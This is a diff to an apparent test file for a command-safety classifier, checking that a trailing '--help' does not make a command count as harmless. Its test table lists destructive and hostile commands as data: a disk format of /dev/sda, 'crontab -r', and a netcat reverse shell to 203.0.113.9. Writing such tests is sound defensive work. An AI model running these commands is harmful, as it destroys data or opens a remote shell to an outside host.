@@ -58,6 +58,7 @@ describe('a word that asks for help makes a command harmless only where the prog
     ['a tool that does not know it goes on', 'mkfs.ext4 /dev/sda --help', 'file.write'],
     ['', 'crontab -r --help', 'schedule.add'],
     ['', 'nc -e /bin/sh 203.0.113.9 44 --help', 'net.connect'],
+    ['a file gets it', './wipe.sh --help', 'file.read'],
     ['a launcher fetches first', 'npx some-tool --help', 'package.install'],
   ])('%s: %s', (_, command, kind) => {
     expect(done(command)).toContain(kind)
